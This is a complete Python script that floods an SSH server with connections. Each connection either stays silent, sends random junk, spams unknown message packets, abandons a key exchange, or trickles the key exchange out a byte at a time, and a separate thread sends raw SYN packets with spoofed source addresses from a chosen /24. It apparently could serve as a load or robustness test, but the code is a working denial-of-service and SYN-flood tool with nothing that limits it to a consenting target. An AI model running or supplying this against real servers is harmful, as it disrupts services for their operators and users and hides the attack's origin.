"""A crowd of strangers, until standard input ends: flood.py HOST PORT RATE NOBODY ADDRESS...

From the ADDRESSES come RATE connections a second in all. Each does one of five things: says nothing, sends what is no
version, sends messages that nobody knows and reads no answer, begins a key exchange and stops, or says its version and
the same key exchange a byte at a time. A tenth as many SYNs come from addresses of NOBODY/24, and nobody acknowledges the
answers. Says at the end how many connections there were, and how many of them were answered with a version.
"""

import collections
import os
import random
import socket
import struct
import sys
import threading
import time

HOST, PORT, RATE, NOBODY = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
ADDRESSES = sys.argv[5:]
PAUSE = len(ADDRESSES) / RATE
IDENT = b"SSH-2.0-flood\r\n"
OPEN_AT_A_TIME = 40
BEFORE = 5


def packet(payload):
    padding = 8 - (5 + len(payload)) % 8
    padding += 8 if padding < 4 else 0
    return (1 + len(payload) + padding).to_bytes(4, "big") + bytes([padding]) + payload + bytes(padding)


def kexinit():
    lists = [b"curve25519-sha256", b"ssh-ed25519"] + [b"chacha20-poly1305@openssh.com"] * 2
    lists += [b"hmac-sha2-256"] * 2 + [b"none"] * 2 + [b""] * 2
    names = b"".join(len(name).to_bytes(4, "big") + name for name in lists)
    return packet(bytes([20]) + os.urandom(16) + names + bytes(5))


EXCHANGE = IDENT + kexinit() + packet(bytes([30]) + (32).to_bytes(4, "big") + bytes([9]) + bytes(31))
# What is said at once, and what a byte at a time.
HABITS = [(b"", b""), (os.urandom(4096), b""), (IDENT + packet(bytes([192])) * 500, b""), (EXCHANGE, b""), (b"", EXCHANGE)]

over = threading.Event()
connections = collections.Counter()
served = collections.Counter()


def pace():
    due = time.monotonic()
    while not over.is_set():
        yield
        due = max(due + PAUSE, time.monotonic() - 1)
        time.sleep(max(0, due - time.monotonic()))


def say(one, what):
    try:
        one.send(what)
    except OSError:
        pass


def stranger(address):
    held = collections.deque()
    for _ in pace():
        one = socket.socket()
        # A small window: what it is told does not fit.
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        one.bind((address, 0))
        one.setblocking(False)
        at_once, slowly = random.choice(HABITS)
        try:
            one.connect((HOST, PORT))
        except BlockingIOError:
            pass
        except OSError:
            continue
        connections[address] += 1
        held.append([one, at_once, slowly])
        # Who came a few before is connected by now, if ever.
        other = held[max(len(held) - BEFORE, 0)]
        say(other[0], other[1])
        slow = random.choice(held)
        say(slow[0], slow[2][:1])
        slow[2] = slow[2][1:]
        while len(held) > OPEN_AT_A_TIME:
            oldest = held.popleft()[0]
            try:
                served[address] += oldest.recv(8) == b"SSH-2.0-"
            except OSError:
                pass
            oldest.close()


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def half_open():
    """SYNs from nobody's addresses, as many as one of the others has connections (RFC 791, RFC 9293; ip(7), IP_HDRINCL)."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    net, to = socket.inet_aton(NOBODY)[:3], socket.inet_aton(HOST)
    for _ in pace():
        of = net + bytes([random.randrange(1, 255)])
        tcp = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), PORT, random.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
        sum_ = checksum(of + to + struct.pack(">HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack(">H", sum_) + tcp[18:]
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + of + to
        raw.sendto(head + tcp, (HOST, 0))


os.nice(10)  # They have processors of their own.
crowd = [threading.Thread(target=stranger, args=(address,), daemon=True) for address in ADDRESSES]
crowd.append(threading.Thread(target=half_open, daemon=True))
for one in crowd:
    one.start()
sys.stdin.read()
over.set()
for one in crowd:
    one.join()
print(sum(connections.values()), sum(served.values()))
